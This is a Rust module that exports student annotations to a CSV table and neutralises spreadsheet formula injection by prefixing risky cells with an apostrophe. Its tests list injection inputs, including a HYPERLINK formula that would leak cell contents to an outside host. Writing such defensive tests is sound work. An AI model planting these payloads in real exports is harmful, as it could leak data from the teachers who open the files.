//! Every annotation as a row of a table: RFC 4180, UTF-8, the first line names the columns.
//!
//! What a student typed must not become a formula in the teacher's spreadsheet. A cell that one might take for a formula
//! begins with an apostrophe, unless the cells are asked for as they are (`raw`), for programs.

use std::collections::HashMap;
use std::collections::hash_map::Entry;
use std::path::Path;

use rusqlite::Connection;

use super::{HandIn, TableForm, store, views};
use crate::export::file::kind::only_over;
use crate::export::file::write_whole;
use crate::highlights::State;
use crate::highlights::store::name;
use crate::ids::{BundleId, HandInId, TextId};
use crate::text::heading_at;
use crate::text::store::{current_edition, outline};
use crate::time::{Timestamp, rfc3339};
use crate::{Library, Result};

const COLUMNS: [&str; 13] = [
    "student", "kind", "text", "heading", "passage", "place", "color", "note", "tags", "question",
    "answer", "made", "changed",
];

/// As much of a file as says whether it is such a table, bytes.
const HEAD: u64 = 256;

/// So that spreadsheets read UTF-8 as what it is.
const MARK: char = '\u{FEFF}';

pub(super) fn csv(library: &Library, bundle: BundleId, form: TableForm) -> Result<String> {
    let students = views::hand_ins(library, bundle)?;
    let names: HashMap<HandInId, String> = students
        .students
        .iter()
        .map(|student: &HandIn| (student.id, student.shown(form.pseudonyms)))
        .collect();
    let titles: HashMap<TextId, &str> = students
        .texts
        .iter()
        .map(|text| (text.id, text.title.as_str()))
        .collect();
    let questions: HashMap<String, String> = super::answers(library, bundle)?
        .into_iter()
        .map(|question| (question.target, question.asked))
        .collect();
    let kept = library.read(|connection| store::live_of_bundle(connection, bundle))?;
    let mut headings = Headings::default();
    let mut table = match form.raw {
        true => String::new(),
        false => MARK.to_string(),
    };
    line(&mut table, COLUMNS.map(str::to_owned), form.raw);
    for (hand_in, kept, (anchor, state)) in views::standing_of(library, kept)? {
        let start = anchor.map(|anchor| anchor.start);
        let heading = match (kept.text, start) {
            (Some(text), Some(start)) => headings.at(library, text, start)?,
            _ => String::new(),
        };
        let is_answer = kept.question.is_some();
        let (answer, note) = match is_answer {
            true => (kept.note.clone(), String::new()),
            false => (String::new(), kept.note.clone()),
        };
        let question = kept.question.as_ref();
        let cells = [
            names.get(&hand_in).cloned().unwrap_or_default(),
            kind(is_answer, &note).to_owned(),
            kept.text
                .and_then(|text| titles.get(&text).copied())
                .unwrap_or_default()
                .to_owned(),
            heading,
            kept.passage.quote.clone(),
            place(kept.on_passage(), state).to_owned(),
            kept.color.map(name).transpose()?.unwrap_or_default(),
            note,
            kept.tags.join("; "),
            question
                .and_then(|id| questions.get(id))
                .cloned()
                .unwrap_or_default(),
            answer,
            moment(kept.created),
            moment(kept.modified),
        ];
        line(&mut table, cells, form.raw);
    }
    Ok(table)
}

pub(super) fn write(library: &Library, bundle: BundleId, form: TableForm, to: &Path) -> Result<()> {
    only_over(to, "a table of hand-ins", HEAD, is_one)?;
    write_whole(to, csv(library, bundle, form)?.as_bytes())
}

/// Does it begin with the names of the columns? One without a byte is nobody's.
fn is_one(bytes: &[u8]) -> bool {
    let bytes = bytes
        .strip_prefix(MARK.to_string().as_bytes())
        .unwrap_or(bytes);
    bytes.is_empty() || bytes.starts_with(COLUMNS.join(",").as_bytes())
}

fn kind(is_answer: bool, note: &str) -> &'static str {
    match (is_answer, note.is_empty()) {
        (true, _) => "answer",
        (false, true) => "mark",
        (false, false) => "note",
    }
}

fn place(on_passage: bool, state: State) -> &'static str {
    match (on_passage, state) {
        (false, _) => "",
        (true, State::Placed) => "placed",
        (true, State::Check) => "check",
        (true, State::Unplaced) => "unplaced",
    }
}

fn moment(at: Option<Timestamp>) -> String {
    at.map(rfc3339).unwrap_or_default()
}

/// Outlines of texts, each read once.
#[derive(Default)]
struct Headings(HashMap<TextId, Vec<crate::text::OutlineEntry>>);

impl Headings {
    fn at(&mut self, library: &Library, text: TextId, position: u32) -> Result<String> {
        let entries = match self.0.entry(text) {
            Entry::Occupied(known) => known.into_mut(),
            Entry::Vacant(place) => {
                let read = |connection: &Connection| {
                    outline(connection, current_edition(connection, text)?)
                };
                place.insert(library.read(read)?)
            }
        };
        let heading = heading_at(entries, position);
        Ok(heading
            .map(|heading| heading.text.clone())
            .unwrap_or_default())
    }
}

fn line(table: &mut String, cells: [String; COLUMNS.len()], raw: bool) {
    for (number, cell) in cells.iter().enumerate() {
        if number > 0 {
            table.push(',');
        }
        table.push_str(&quoted(cell, raw));
    }
    table.push_str("\r\n");
}

fn quoted(cell: &str, raw: bool) -> String {
    let apostrophe = if !raw && is_risky(cell) { "'" } else { "" };
    let cell = format!("{apostrophe}{cell}");
    match cell.contains([',', ';', '\t', '"', '\r', '\n']) || apostrophe == "'" {
        true => format!("\"{}\"", cell.replace('"', "\"\"")),
        false => cell,
    }
}

/// Might a spreadsheet run it? They pass over white space, quotes and what cannot be seen before a formula's sign, and
/// some take the wide forms of the signs. One that begins with an apostrophe gets another, so that taking one off gives
/// back every cell.
fn is_risky(cell: &str) -> bool {
    if cell.starts_with(['\t', '\r', '\n', '\'']) {
        return true;
    }
    let passed_over = |c: char| {
        c.is_whitespace()
            || c.is_control()
            || matches!(c, '"' | '\u{FEFF}' | '\u{200B}'..='\u{200F}' | '\u{2060}')
    };
    let rest = cell.trim_start_matches(passed_over);
    rest.starts_with(['=', '+', '-', '@', '|', '%', '＝', '＋', '－', '＠', '−'])
}

#[cfg(test)]
mod tests {
    use super::*;

    /// What a reader of RFC 4180 makes of a field.
    fn read_back(field: &str) -> String {
        match field
            .strip_prefix('"')
            .and_then(|rest| rest.strip_suffix('"'))
        {
            Some(inside) => inside.replace("\"\"", "\""),
            None => field.to_owned(),
        }
    }

    #[test]
    fn nothing_that_was_typed_becomes_a_formula() {
        for typed in [
            "=HYPERLINK(\"http://x?\"&A1)",
            "+1",
            "-1+1",
            "@SUM(A1)",
            "\t=1",
            "\u{a0}=1",
            "\"\n=1",
            "＝1",
            "\r=1",
            "\n=1",
            "\u{200b}=1",
            "' =1",
        ] {
            let cell = read_back(&quoted(typed, false));
            assert_eq!(cell, format!("'{typed}"));
            assert_eq!(read_back(&quoted(typed, true)), typed, "as it is");
        }
    }

    #[test]
    fn everything_else_is_left_as_it_is() {
        for typed in [
            "",
            "words",
            "a=b",
            "1 - 2",
            "Ⅳ, or \"four\"",
            "two\nlines",
            "a;b",
        ] {
            assert_eq!(read_back(&quoted(typed, false)), typed);
            assert_eq!(quoted(typed, true), quoted(typed, false));
        }
        assert_eq!(quoted("a,\"b\"", false), "\"a,\"\"b\"\"\"");
    }
}
